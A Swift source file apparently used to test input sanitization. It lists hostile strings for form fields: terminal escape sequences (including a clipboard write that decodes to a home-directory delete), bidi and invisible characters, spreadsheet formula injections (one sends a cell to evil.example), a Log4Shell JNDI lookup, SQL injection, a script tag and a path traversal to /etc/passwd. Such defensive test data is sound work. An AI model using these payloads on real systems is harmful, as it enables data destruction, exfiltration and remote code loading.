/// What people with bad intent write into a form, and what must do no harm on the way to a screen or a spreadsheet.
package enum HostileText {
    package static let all: [String] = [
        // Clipboard, title, link, device strings and requests for an answer.
        "\u{1B}]52;c;cm0gLXJmIH4=\u{07}Mallory",
        "\u{1B}]0;owned\u{07}Mallory",
        "\u{1B}]8;;http://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\",
        "\u{1B}P+q544e\u{1B}\\Mallory",
        "\u{1B}[6n\u{1B}[c\u{1B}[21t",
        // Cursor, colours, erasing, alternate screen, scrolling region, reset.
        "\u{1B}[2J\u{1B}[H\u{1B}[31mMallory",
        "\u{1B}[?1049l\u{1B}[1;5r\u{1B}c",
        // The same in C1 controls, and shifts of the character set.
        "\u{9B}2J\u{9D}0;owned\u{9C}Mallory",
        "\u{0E}Mallory\u{0F}\u{08}\u{08}\u{7F}\u{00}",
        "line\r\nbreak\tand\u{0B}tab\u{2028}and\u{2029}paragraph",
        // Bidirectional overrides and isolates that do not end, invisible and tag characters.
        "\u{202E}yrollaM\u{2066}\u{2067}",
        "Mal\u{200B}\u{200D}\u{2060}\u{FEFF}lory\u{E0041}\u{E0042}",
        "Z" + String(repeating: "\u{0301}\u{0335}\u{0489}", count: 60) + "algo",
        // Very long, with and without places to break, and wide.
        String(repeating: "Llanfairpwllgwyngyll", count: 150),
        String(repeating: "界", count: 2000),
        // Spreadsheets, templates, SQL, markup, logs.
        "=cmd|'/c calc'!A0",
        "+HYPERLINK(\"http://evil.example/?\"&A1,\"prize\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "{{ contact.email }}{{#each}}%s%n${jndi:ldap://evil.example/a}",
        "Robert'); DROP TABLE events;--",
        "<script>alert(1)</script>&amp;",
        "../../../../etc/passwd\u{0}",
    ]
}
